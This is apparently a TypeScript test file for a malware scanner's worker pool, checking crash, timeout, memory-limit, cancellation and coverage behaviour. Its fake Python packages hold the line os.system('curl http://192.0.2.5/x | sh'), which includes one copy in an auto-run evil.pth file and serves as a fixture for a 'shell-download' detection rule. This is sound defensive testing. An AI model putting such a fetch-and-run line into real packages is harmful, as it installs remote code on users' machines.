/**
 * Workers that crash, never come back or take all memory, over real child processes: the scan goes on without the member that did it. The fault switch
 * (main/scan/fault-switch.ts) is read when the worker starts, so that it can be set here.
 */
import { readdirSync } from "node:fs";
import { tmpdir } from "node:os";
import { afterEach, describe, expect, it } from "vitest";
import { defaultLimits, type Limits } from "../../../../main/model/limits.ts";
import { createScanPool, type ScanPool } from "../../../../main/scan/scan-pool.ts";
import { failureOf } from "../../../support/open-bytes.ts";
import { childrenOf } from "../../../support/processes.ts";
import { buildZip } from "../../../support/zip-builder.ts";

const FAULT = "VIVARIUM_FAULT";
const TIME = 180_000;

const bytes = buildZip([
	{ name: "pkg/__init__.py", content: "import os\nos.system('curl http://192.0.2.5/x | sh')\n" },
	{ name: "pkg/evil.py", content: "x = 1\n" },
	{ name: "pkg/other.py", content: "y = 2\n" },
]);
const source = { kind: "bytes", filename: "pkg-1-py3-none-any.whl", bytes, origin: "upload" } as const;

const pools: ScanPool[] = [];
function processes(changes: { limits?: Partial<Limits>; heapMegabytes?: number } = {}): ScanPool {
	const { heapMegabytes, limits } = changes;
	const pool = createScanPool({
		jobs: 1,
		workers: "process",
		limits: { ...defaultLimits, ...limits },
		...(heapMegabytes !== undefined && { heapMegabytes }),
	});
	pools.push(pool);
	return pool;
}

const children = (): string[] => childrenOf(process.pid);

afterEach(async () => {
	delete process.env[FAULT];
	await Promise.all(pools.splice(0).map((pool) => pool.close()));
});

describe("a worker process", () => {
	it.each([
		["crash", {}, "the scanner died while it read this member"],
		["loop", { limits: { memberMilliseconds: 1_500 } }, "the scanner took longer than 1.5 s over this member"],
		["heap", { heapMegabytes: 200 }, "the scanner ran out of memory while it read this member"],
		["memory", { heapMegabytes: 200 }, "the scanner ran out of memory while it read this member"],
	] as const)(
		"that meets a %s costs the member that did it, which is told, and no more",
		async (kind, changes, reason) => {
			process.env[FAULT] = `${kind}:worker:pkg/evil.py`;
			const pool = processes(changes);
			const { analysis } = await pool.scan(source);
			const lines = analysis.coverage.skipped.filter((line) => line.path === "pkg/evil.py");
			expect(lines.map((line) => line.reason)).toEqual([`${reason}: not examined`]);
			expect(analysis.status).toBe("partial");
			expect(analysis.findings.map((finding) => finding.rule)).toContain("shell-download");
			expect(analysis.coverage.examined).toBe(2);
			// It is remembered: the same package costs no second worker.
			const before = children();
			expect((await pool.scan(source)).analysis.coverage.skipped).toEqual(analysis.coverage.skipped);
			expect(children()).toEqual(before);
		},
		TIME,
	);

	it(
		"gives a package up that kills one after another, and scans the next",
		async () => {
			process.env[FAULT] = "crash:worker:.py";
			const names = Array.from({ length: 9 }, (_, index) => ({ name: `pkg/m${index}.py`, content: "x = 1\n" }));
			const pool = processes();
			const failure = await failureOf(pool.scan({ ...source, bytes: buildZip(names) }));
			expect(failure.code).toBe("engine-lost");
			const text = { kind: "text", filename: "fine.txt", text: "nothing\n" } as const;
			expect((await pool.scan(text)).analysis.coverage.members).toBe(1);
		},
		TIME,
	);

	it(
		"is gone when it is cancelled, with everything it held, and the next scan has another",
		async () => {
			process.env[FAULT] = "loop:worker:pkg/evil.py";
			const pool = processes();
			const places = (): string[] => readdirSync(tmpdir()).filter((name) => name.startsWith("vivarium-place-"));
			const before = children();
			const stop = new AbortController();
			const scan = pool.scan(source, {
				signal: stop.signal,
				onProgress: ({ phase, detail }) => phase === "reading" && detail === "pkg/__init__.py" && stop.abort(),
			});
			expect((await failureOf(scan)).code).toBe("cancelled");
			await expect.poll(children, { timeout: 10_000 }).toEqual(before);
			expect(places()).toEqual([]);
			const other = { kind: "text", filename: "a.py", text: "import os\n" } as const;
			expect((await pool.scan(other)).analysis.status).toBe("scanned");
		},
		TIME,
	);

	it(
		"is gone when its pool is closed in the middle of its work",
		async () => {
			process.env[FAULT] = "loop:worker:pkg/evil.py";
			const before = children();
			const pool = processes();
			const started = Promise.withResolvers<void>();
			const scan = failureOf(
				pool.scan(source, { onProgress: ({ phase }) => phase === "reading" && started.resolve() }),
			);
			await started.promise;
			await pool.close();
			expect((await scan).code).toBe("cancelled");
			expect(children()).toEqual(before);
		},
		TIME,
	);

	it(
		"gives way to who waits longer only when it is free: a scan that waits can be cancelled",
		async () => {
			process.env[FAULT] = "loop:worker:pkg/evil.py";
			const pool = processes();
			const first = new AbortController();
			const second = new AbortController();
			const running = failureOf(pool.scan(source, { signal: first.signal }));
			const waiting = failureOf(pool.scan(source, { signal: second.signal }));
			second.abort();
			expect((await waiting).code).toBe("cancelled");
			first.abort();
			expect((await running).code).toBe("cancelled");
		},
		TIME,
	);
});

describe("a worker thread", () => {
	it.each([
		["loop", { limits: { memberMilliseconds: 1_500 } }, "the scanner took longer than 1.5 s over this member"],
		["heap", { heapMegabytes: 100 }, "the scanner ran out of memory while it read this member"],
	] as const)(
		"that meets a %s costs the member that did it, which is told, and no more",
		async (kind, { limits, heapMegabytes }: { limits?: Partial<Limits>; heapMegabytes?: number }, reason) => {
			process.env[FAULT] = `${kind}:worker:pkg/evil.py`;
			const pool = createScanPool({
				jobs: 1,
				limits: { ...defaultLimits, ...limits },
				...(heapMegabytes !== undefined && { heapMegabytes }),
			});
			pools.push(pool);
			const { analysis } = await pool.scan(source);
			expect(analysis.coverage.skipped.map((line) => [line.path, line.reason])).toEqual([
				["pkg/evil.py", `${reason}: not examined`],
			]);
			expect(analysis.findings.map((finding) => finding.rule)).toContain("shell-download");
		},
		TIME,
	);

	it.each([
		["exit", "the scanner died"],
		["heap", "the scanner ran out of memory"],
	])(
		"that meets a %s while it opens costs the member that did it, and no more",
		async (kind, what) => {
			process.env[FAULT] = `${kind}:open:pkg/evil.py`;
			const pool = createScanPool({ jobs: 1, heapMegabytes: 100 });
			pools.push(pool);
			const opened = await pool.open(source);
			expect((await opened.document("m0"))?.document.text).toContain("os.system");
			const { analysis } = await opened.analyse({});
			expect(analysis.coverage.skipped.map((line) => [line.path, line.reason])).toEqual([
				["pkg/evil.py", `${what} while it unpacked this member: not examined`],
			]);
		},
		TIME,
	);

	it(
		"is ended in the middle of a parse, and nothing else with it",
		async () => {
			// Some seconds of parsing without a pause.
			const text = Array.from({ length: 100_000 }, (_, index) => `x${index} = f(${index}, "a", [1, 2, 3]).b`).join(
				"\n",
			);
			const pool = createScanPool({ jobs: 1, workers: "thread" });
			pools.push(pool);
			for (let attempt = 0; attempt < 3; attempt++) {
				const stop = new AbortController();
				const scan = failureOf(
					pool.scan(
						{ kind: "text", filename: "long.py", text },
						{
							signal: stop.signal,
							onProgress: ({ phase }) => phase === "reading" && setTimeout(() => stop.abort(), 50 * attempt),
						},
					),
				);
				expect((await scan).code).toBe("cancelled");
			}
			const other = { kind: "text", filename: "a.py", text: "import os\n" } as const;
			expect((await pool.scan(other)).analysis.status).toBe("scanned");
		},
		TIME,
	);

	it(
		"that is busy gives the scan up at once when it is cancelled",
		async () => {
			process.env[FAULT] = "loop:worker:pkg/evil.py";
			const pool = createScanPool({ jobs: 1 });
			pools.push(pool);
			const stop = new AbortController();
			const scan = failureOf(
				pool.scan(source, { signal: stop.signal, onProgress: ({ phase }) => phase === "reading" && stop.abort() }),
			);
			expect((await scan).code).toBe("cancelled");
			const other = { kind: "text", filename: "a.py", text: "import os\n" } as const;
			expect((await pool.scan(other)).analysis.status).toBe("scanned");
		},
		TIME,
	);
});

describe("what was opened when the engine ended", () => {
	it("is not opened again", async () => {
		const pool = createScanPool({ jobs: 1, losses: () => [{ memberId: "", where: "opening" }] });
		pools.push(pool);
		expect(await failureOf(pool.scan(source))).toMatchObject({
			code: "engine-lost",
			message: expect.stringContaining("does not open it again"),
		});
	});

	it("is not shown again, and the rest is", async () => {
		const pool = createScanPool({ jobs: 1, losses: () => [{ memberId: "m1", where: "showing" }] });
		pools.push(pool);
		const opened = await pool.open(source);
		expect(await failureOf(opened.document("m1"))).toMatchObject({
			code: "not-readable",
			message: expect.stringContaining("does not show it again"),
		});
		expect((await opened.document("m2"))?.document.text).toBe("y = 2\n");
		// It is read in a worker.
		const scanned = await opened.analyse({});
		expect(scanned.analysis.coverage.examined).toBe(3);
		await scanned.close();
	});
});

describe("a pool in which all workers are scanning", () => {
	it(
		"opens what the analyst wants to read in another",
		async () => {
			process.env[FAULT] = "loop:worker:pkg/evil.py";
			const pool = processes();
			const stop = new AbortController();
			const started = Promise.withResolvers<void>();
			const scan = failureOf(
				pool.scan(source, { signal: stop.signal, onProgress: ({ phase }) => phase === "reading" && started.resolve() }),
			);
			await started.promise;
			const text = "import os\n";
			const opened = await pool.open({ kind: "text", filename: "a.py", text });
			expect((await opened.document("m0"))?.document.text).toBe(text);
			stop.abort();
			expect((await scan).code).toBe("cancelled");
			// Its content came from one worker and is scanned by another.
			expect((await opened.analyse({})).analysis.coverage.examined).toBe(1);
		},
		TIME,
	);
});

describe("time and memory of a package", () => {
	it(
		"read what runs first, and put down what was left when the time was over",
		async () => {
			const pool = processes({ limits: { packageMilliseconds: 0 } });
			const { analysis } = await pool.scan(source);
			expect(analysis.status).toBe("partial");
			expect(analysis.coverage.notExamined).toBe(3);
			expect(new Set(analysis.coverage.skipped.map((line) => line.reason))).toEqual(
				new Set(["the time for one artifact (0 s) ran out: not examined"]),
			);
		},
		TIME,
	);

	it(
		"read no more Python than the limit, what runs by itself first, the small before the large",
		async () => {
			const pool = processes({ limits: { pythonBytes: 100 } });
			const large = { name: "pkg/large.py", content: `x = "${"a".repeat(200)}"\n` };
			const test = { name: "pkg/tests/test_small.py", content: `x = "${"a".repeat(60)}"\n` };
			const start = { name: "evil.pth", content: "import os; os.system('curl http://192.0.2.5/x | sh')\n" };
			const { analysis } = await pool.scan({ ...source, bytes: buildZip([large, test, start]) });
			expect(analysis.findings.map((finding) => finding.rule)).toContain("shell-download");
			expect(analysis.coverage.skipped.map(({ path, reason }) => [path, reason])).toEqual([
				["pkg/large.py", "more than 100 B of Python, the limit for one artifact: not examined"],
				["pkg/tests/test_small.py", "more than 100 B of Python, the limit for one artifact: not examined"],
			]);
			// Padding does not keep out what a rule could match in.
			const padding = Array.from({ length: 9 }, (_, index) => ({ name: `pkg/a${index}.py`, content: "x = 1\n" }));
			const hidden = { name: "pkg/hidden.py", content: "import os\nos.system('curl http://192.0.2.5/x | sh')\n" };
			const padded = await pool.scan({ ...source, bytes: buildZip([...padding, hidden]) });
			expect(padded.analysis.findings.map((finding) => finding.path)).toContain("pkg/hidden.py");
			expect(padded.analysis.coverage.notExamined).toBeGreaterThan(0);
			const whole = await processes().scan({ ...source, bytes: buildZip([large, test, start]) });
			expect(whole.analysis.coverage.notExamined).toBe(0);
		},
		TIME,
	);
});
